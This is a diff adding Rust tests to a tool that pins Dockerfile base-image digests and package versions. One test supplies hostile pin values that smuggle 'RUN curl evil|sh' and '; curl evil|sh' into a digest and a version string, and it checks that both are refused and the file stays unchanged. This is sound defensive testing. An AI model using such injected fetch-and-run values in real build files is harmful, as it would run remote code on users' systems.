@@ -200,3 +200,40 @@ fn a_base_image_from_a_global_arg_default_is_pinned_in_the_arg() {
     assert_eq!(locked.text, text);
     assert_eq!(locked.unpinned[0].reason, UnpinnedReason::Variable);
 }
+
+/// Pins come from the image, which may be hostile: a digest or version that is not one is
+/// refused, never written (it could add an instruction or a shell command).
+#[test]
+fn pins_that_are_not_digests_or_versions_are_refused() {
+    struct Hostile;
+    impl Pins for Hostile {
+        fn base_digest(&self, _: &str) -> Option<String> {
+            Some("sha256:x\nRUN curl evil|sh".into())
+        }
+        fn version(&self, _: Ecosystem, _: &str) -> Option<String> {
+            Some("1.0; curl evil|sh".into())
+        }
+    }
+    let text = "FROM debian:bookworm\nRUN apt-get install -y curl\n";
+    let df = parse(text).unwrap();
+    let locked = lock(text, &df, &Hostile).unwrap();
+    assert_eq!(locked.text, text);
+    let reasons: Vec<UnpinnedReason> = locked.unpinned.iter().map(|u| u.reason).collect();
+    assert_eq!(
+        reasons,
+        [UnpinnedReason::InvalidPin, UnpinnedReason::InvalidPin]
+    );
+}
+
+/// Two stages `FROM ${BASE}`: the one ARG default is pinned once.
+#[test]
+fn a_global_arg_used_by_two_stages_is_pinned_once() {
+    let text = "ARG BASE=debian:bookworm\nFROM ${BASE} AS a\nFROM ${BASE}\n";
+    let df = parse(text).unwrap();
+    let locked = lock(text, &df, &table()).unwrap();
+    assert_eq!(
+        locked.text,
+        format!("ARG BASE=debian:bookworm@{DIGEST}\nFROM ${{BASE}} AS a\nFROM ${{BASE}}\n")
+    );
+    assert_eq!(locked.pinned.len(), 1);
+}
